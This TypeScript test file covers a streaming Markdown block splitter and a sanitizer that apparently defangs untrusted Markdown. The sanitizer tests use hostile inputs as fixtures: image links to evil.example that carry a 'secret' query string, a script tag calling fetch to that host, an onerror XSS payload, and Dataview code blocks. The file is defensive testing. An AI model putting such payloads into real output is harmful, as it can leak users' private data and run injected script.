import { specExample } from "../../../test/helpers/commonmarkExamples";
import { MarkdownBlockSplitter } from "./markdownBlocks";
import { neutralizeMarkdown } from "./untrustedMarkdown";

const ANSWER = [
  "# Plan",
  "",
  "Intro paragraph",
  "over two lines.",
  "",
  "- item one",
  "",
  "  continued inside item one",
  "- item two",
  "",
  "```js",
  "const a = 1;",
  "",
  "const b = 2;",
  "```",
  "",
  "| a | b |",
  "|---|---|",
  "| 1 | 2 |",
  "",
  "$$",
  "x",
  "",
  "y",
  "$$",
  "",
  "Last words.",
].join("\n");

/** Feeds the text in pieces of `size` characters and returns every state seen. */
function stream(text: string, size: number): { splitter: MarkdownBlockSplitter; seen: Array<{ complete: string[]; tail: string }> } {
  const splitter = new MarkdownBlockSplitter();
  const seen: Array<{ complete: string[]; tail: string }> = [];
  for (let end = size; end < text.length + size; end += size) {
    const { complete, tail } = splitter.update(text.slice(0, end));
    seen.push({ complete: [...complete], tail });
  }
  return { splitter, seen };
}

describe("MarkdownBlockSplitter", () => {
  it("splits at blank lines outside fences, keeping indented continuations, fences and math blocks whole", () => {
    const blocks = new MarkdownBlockSplitter().finish(ANSWER);
    expect(blocks.map((block) => block.trim())).toEqual([
      "# Plan",
      "Intro paragraph\nover two lines.",
      "- item one\n\n  continued inside item one\n- item two",
      "```js\nconst a = 1;\n\nconst b = 2;\n```",
      "| a | b |\n|---|---|\n| 1 | 2 |",
      "$$\nx\n\ny\n$$",
      "Last words.",
    ]);
    expect(blocks.join("")).toBe(ANSWER);
  });

  it("gives the same blocks whatever the size of the pieces, and a complete block never changes once given", () => {
    const whole = new MarkdownBlockSplitter().finish(ANSWER);
    for (const size of [1, 2, 3, 7, 50]) {
      const { splitter, seen } = stream(ANSWER, size);
      expect(splitter.finish(ANSWER)).toEqual(whole);
      for (let index = 1; index < seen.length; index++) {
        const before = seen[index - 1]!.complete;
        expect(seen[index]!.complete.slice(0, before.length)).toEqual(before);
      }
      // Every state is the text so far: complete blocks then the tail.
      for (const state of seen) expect(ANSWER.startsWith(state.complete.join("") + state.tail)).toBe(true);
    }
  });

  it("reads each character once however long the answer (linear work)", () => {
    const paragraph = "Some words in a paragraph that goes on.\n\n";
    const text = paragraph.repeat(5000);
    const splitter = new MarkdownBlockSplitter();
    let longestTail = 0;
    for (let end = 10; end <= text.length; end += 10) longestTail = Math.max(longestTail, splitter.update(text.slice(0, end)).tail.length);
    // The tail (what is rendered again) never holds more than the block growing now.
    expect(longestTail).toBeLessThanOrEqual(paragraph.length + 10);
    expect(splitter.finish(text)).toHaveLength(5000);
  });

  it("keeps the spec's example 137 whole: a fence indented four columns is code, not the block's end", () => {
    const answer = `${specExample(137)}\n# Всё ещё код\n`;
    expect(new MarkdownBlockSplitter().finish(answer)).toEqual([answer]);
  });

  it("ends a list item's fenced code at its closing line, so the next paragraph is a block of its own", () => {
    const answer = "- ```python\n  a = 1\n\n  b = 2\n  ```\n\n段落の後\n\n最後";
    expect(new MarkdownBlockSplitter().finish(answer)).toEqual(["- ```python\n  a = 1\n\n  b = 2\n  ```\n\n", "段落の後\n\n", "最後"]);
  });

  it("starts over when handed a text that does not extend the last one", () => {
    const splitter = new MarkdownBlockSplitter();
    splitter.update("First block.\n\nSecond");
    expect(splitter.update("Other.\n\nText")).toEqual({ complete: ["Other.\n\n"], tail: "Text" });
  });
});

describe("neutralizeMarkdown", () => {
  it("turns images and embeds into links and keeps ordinary Markdown as it is", () => {
    expect(neutralizeMarkdown("See ![chart](https://evil.example/x.png?q=secret) and ![[Private note]].")).toBe(
      "See [chart](https://evil.example/x.png?q=secret) and [[Private note]].",
    );
    expect(neutralizeMarkdown("![ref image][img]")).toBe("[ref image][img]");
    const plain = "# Title\n\n- a **b** [[Note|alias]] [link](https://example.com)\n\n> quote\n\n| a |\n|---|";
    expect(neutralizeMarkdown(plain)).toBe(plain);
  });

  it("keeps plain code languages and drops the language of blocks other plugins would run", () => {
    expect(neutralizeMarkdown("```dataviewjs\ndv.paragraph(1)\n```")).toBe("```\ndv.paragraph(1)\n```");
    expect(neutralizeMarkdown("~~~ dataview\nLIST\n~~~")).toBe("~~~\nLIST\n~~~");
    expect(neutralizeMarkdown("```mermaid\ngraph TD\n```")).toBe("```\ngraph TD\n```");
    expect(neutralizeMarkdown("```python title\nprint(1)\n```")).toBe("```python\nprint(1)\n```");
  });

  it("drops the language of a block other plugins would run in a list item or a block quote, and rewrites what follows the block", () => {
    expect(neutralizeMarkdown("- ```dataviewjs\n  dv.paragraph(1)\n  ```\n\n![x](https://evil.example/p.png)")).toBe(
      "- ```\n  dv.paragraph(1)\n  ```\n\n[x](https://evil.example/p.png)",
    );
    expect(neutralizeMarkdown("> ```js\n> const a = 1;\n> ```\n![x](https://evil.example/p.png)")).toBe(
      "> ```js\n> const a = 1;\n> ```\n[x](https://evil.example/p.png)",
    );
    expect(neutralizeMarkdown("1. > ~~~~ dataview\r\n   > LIST\r\n   > ~~~~\r\n![[Private]]")).toBe("1. > ~~~~\r\n   > LIST\r\n   > ~~~~\r\n[[Private]]");
  });

  it.each([124, 137, 147])("reads the spec's example %i as its code block: what is code stays as written, what follows is rewritten", (number) => {
    const answer = `${specExample(number).replace(/aaa/g, "![x](https://evil.example/in-code.png)")}![y](https://evil.example/after.png)`;
    // Example 137's fence is never closed (its last line is indented four columns): the image after it is code too.
    expect(neutralizeMarkdown(answer)).toBe(number === 137 ? answer : answer.replace("![y]", "[y]"));
  });

  it("leaves code as written, but breaks Dataview's inline query prefixes", () => {
    expect(neutralizeMarkdown("```js\nconst x = \"<img src=x>\"; ![a](b)\n```")).toBe("```js\nconst x = \"<img src=x>\"; ![a](b)\n```");
    expect(neutralizeMarkdown("Use `a < b` and `![x](y)` here")).toBe("Use `a < b` and `![x](y)` here");
    expect(neutralizeMarkdown("`= this.file.name` and `$= dv.current()`")).toBe("`\u200b= this.file.name` and `\u200b$= dv.current()`");
  });

  it("shows raw HTML as text, except bare formatting tags and autolinks", () => {
    expect(neutralizeMarkdown('<script>fetch("https://evil.example")</script>')).toBe('&lt;script>fetch("https://evil.example")&lt;/script>');
    expect(neutralizeMarkdown('<img src="https://evil.example/p.png" onerror="alert(1)">')).toBe('&lt;img src="https://evil.example/p.png" onerror="alert(1)">');
    expect(neutralizeMarkdown("line<br>break <b>bold</b> <b onclick=x>no</b>")).toBe("line<br>break <b>bold</b> &lt;b onclick=x>no</b>");
    expect(neutralizeMarkdown("<https://example.com> and 1 < 2")).toBe("<https://example.com> and 1 &lt; 2");
  });
});
